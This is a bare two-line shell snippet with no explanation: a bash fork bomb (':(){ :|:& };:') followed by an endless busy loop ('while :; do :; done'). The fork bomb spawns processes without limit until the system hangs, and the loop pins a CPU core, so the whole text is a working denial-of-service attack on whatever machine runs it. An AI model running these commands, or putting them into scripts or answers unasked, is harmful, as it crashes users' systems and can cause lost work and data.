:(){ :|:& };:
while :; do :; done
